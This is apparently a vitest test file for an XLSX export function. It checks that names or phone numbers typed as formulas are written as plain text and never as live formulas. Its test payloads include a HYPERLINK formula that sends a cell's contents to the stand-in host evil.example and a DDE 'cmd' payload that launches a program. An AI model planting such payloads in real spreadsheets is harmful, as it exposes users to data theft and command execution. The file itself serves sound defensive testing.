import { describe, expect, it } from "vitest";
import { buildWorkbook } from "./xlsx";

/** A blob's bytes (jsdom's Blob has no arrayBuffer(); its FileReader does the job). */
function bytesOf(blob: Blob): Promise<ArrayBuffer> {
  return new Promise((resolve, reject) => {
    const reader = new FileReader();
    reader.onload = () => resolve(reader.result as ArrayBuffer);
    reader.onerror = () => reject(reader.error);
    reader.readAsArrayBuffer(blob);
  });
}

// Issue 23, 7: a name or phone typed as a formula must reach the sheet as the text typed.
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Ver")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "=1+1",
  "+56 9 1234 5678",
];

describe("buildWorkbook", () => {
  it("writes text that looks like a formula as text, never as a formula", async () => {
    const blob = await buildWorkbook([
      {
        name: "Prueba",
        columns: [{ header: "Nombre" }, { header: "Monto", kind: "money" }],
        rows: PAYLOADS.map((text) => [text, 25000]),
      },
    ]);
    const { default: ExcelJS } = await import("exceljs");
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await bytesOf(blob));
    const sheet = workbook.worksheets[0];
    if (!sheet) throw new Error("no sheet");
    PAYLOADS.forEach((text, index) => {
      const cell = sheet.getRow(index + 2).getCell(1);
      expect(cell.type, text).toBe(ExcelJS.ValueType.String);
      expect(cell.formula, text).toBeUndefined();
      expect(cell.value, text).toBe(text);
      expect(sheet.getRow(index + 2).getCell(2).value).toBe(25000);
    });
  });
});
